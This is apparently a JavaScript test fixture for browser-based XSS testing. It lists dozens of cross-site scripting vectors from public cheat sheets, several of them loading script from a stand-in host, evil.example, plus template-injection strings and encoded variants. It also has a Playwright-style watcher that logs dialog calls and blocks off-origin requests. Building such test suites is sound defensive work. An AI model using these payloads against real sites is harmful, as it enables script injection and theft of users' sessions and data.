// What people try who want a script of theirs to run in somebody else's page: the forms of the public lists
// (OWASP's filter evasion, PortSwigger's cheat sheet, the polyglots), each in every disguise.

const RUN = 'alert(1)';
const REMOTE = 'https://evil.example/x';

/** Each runs `alert` or asks evil.example for something, where a page takes it for markup. */
export const VECTORS = [
  `<script>${RUN}</script>`,
  `<script src=${REMOTE}.js></script>`,
  `<script/x>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type=module>${RUN}</script>`,
  `<script>\\u0061lert(1)</script>`,
  `<script>eval('al'+'ert(1)')</script>`,
  `<script>setTimeout('${RUN}',0)</script>`,
  `<script>import('${REMOTE}.js')</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="x" onerror='${RUN}'>`,
  '<img src=x onerror=&#97;lert(1)>',
  '<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>',
  `<img/src/onerror=${RUN}>`,
  `<img src=x:x onerror=${RUN}//`,
  `<img src=${REMOTE}.png>`,
  `<img srcset=${REMOTE}.png>`,
  `<img """><script>${RUN}</script>">`,
  `<img src=javascript:${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=${REMOTE}.js /></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN} />`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/>`,
  `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${RUN}>x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<body background=javascript:${RUN}>`,
  `<iframe src=javascript:${RUN}></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src=${REMOTE}></iframe>`,
  `<object data=javascript:${RUN}></object>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src=javascript:${RUN}>`,
  `<embed src=${REMOTE}.swf>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
  `<a href="java\nscript:${RUN}">x</a>`,
  `<a href=" &#14; javascript:${RUN}">x</a>`,
  `<a href=data:text/html,<script>${RUN}</script>>x</a>`,
  `<a href=vbscript:msgbox(1)>x</a>`,
  `<form action=javascript:${RUN}><button>x</button></form>`,
  `<button form=x formaction=javascript:${RUN}>x</button>`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<div contenteditable autofocus onfocus=${RUN} tabindex=0>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<details open ontoggle=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<link rel=stylesheet href=${REMOTE}.css>`,
  `<link rel=import href=${REMOTE}>`,
  `<link rel=prefetch href=${REMOTE}>`,
  `<style>@import'${REMOTE}.css';</style>`,
  `<style>*{background:url(${REMOTE}.png)}</style>`,
  `<div style="background:url(${REMOTE}.png)">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${RUN}>x</p>`,
  `<p onmouseover=${RUN} style="position:fixed;inset:0">x</p>`,
  `<base href=${REMOTE}/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<x onclick=${RUN} id=x>x</x>`,
  `<xss id=x tabindex=1 onfocus=${RUN}></xss>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  `javascript:${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
];

const entities = (text) => text.replace(/[<>"'&]/g, (c) => `&#${c.charCodeAt(0)};`);
const escapes = (text) => text.replace(/[<>]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`);

const DISGUISES = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</textarea>${vector}`,
  (vector) => `</title></style></script>${vector}`,
  (vector) => `--> ]]> ${vector}`,
  (vector) => `[click](${vector})`,
  (vector) => `![x](${vector} "${vector}")`,
  (vector) => `\`\`\`html\n${vector}\n\`\`\``,
  (vector) => vector.toUpperCase(),
  entities,
  encodeURIComponent,
  escapes,
];

/** Every vector in every disguise: more than a thousand texts. */
export const INJECTIONS = DISGUISES.flatMap((disguise) => VECTORS.map(disguise));

/** Watches everything in a context that would be a success of theirs. Call before any page opens. */
export async function watched(context, origin) {
  const ran = [];
  await context.exposeFunction('ran', (what) => ran.push(what));
  await context.addInitScript(() => {
    for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = () => window.ran(name);
  });
  await context.route(
    (url) => url.origin !== origin && !['data:', 'blob:'].includes(url.protocol),
    (route) => {
      ran.push(`asked for ${route.request().url()}`);
      return route.abort();
    },
  );
  return ran;
}
